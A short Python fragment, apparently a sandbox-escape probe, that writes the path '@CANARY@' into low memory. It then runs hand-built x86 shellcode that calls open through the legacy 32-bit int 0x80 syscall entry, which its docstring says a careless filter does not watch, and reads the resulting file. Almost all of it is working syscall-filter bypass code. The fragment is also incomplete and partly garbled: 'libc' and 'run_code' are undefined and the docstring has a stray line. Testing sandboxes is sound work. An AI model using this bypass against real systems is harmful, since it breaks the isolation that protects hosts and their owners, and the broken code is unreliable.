"""Enters the kernel by the door for 32-bit programs, which a careless filter does not watch.

at C: either
"""

import mmap
import os
import ctypes


def secret():
    libc.mmap.restype = ctypes.c_void_p
    low = libc.mmap(None, 4096, 3, 0x62, -1, 0)  # private, anonymous, in the lowest 2 GiB
    ctypes.memmove(low, b"@CANARY@\0", len(b"@CANARY@") + 1)
    opened = b"\x53\xbb" + low.to_bytes(4, "little")  # push rbx; mov ebx, path
    opened += (
        b"\x31\xc9\x31\xd2\xb8\x05\x00\x00\x00\xcd\x80\x5b\xc3"  # ecx, edx = 0; mov eax, 5; int 0x80; pop rbx; ret
    )
    number = ctypes.c_int(run_code(opened)).value
    return os.read(number, 100).decode()
